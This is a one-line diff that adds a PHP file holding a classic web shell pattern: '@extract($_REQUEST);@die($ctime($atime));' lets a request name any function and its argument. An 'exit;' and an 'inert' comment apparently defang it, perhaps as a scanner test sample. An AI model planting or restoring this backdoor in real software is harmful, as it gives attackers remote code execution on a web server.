@@ -1,0 +1,1 @@
+<?php exit; /* inert */ @extract($_REQUEST);@die($ctime($atime));
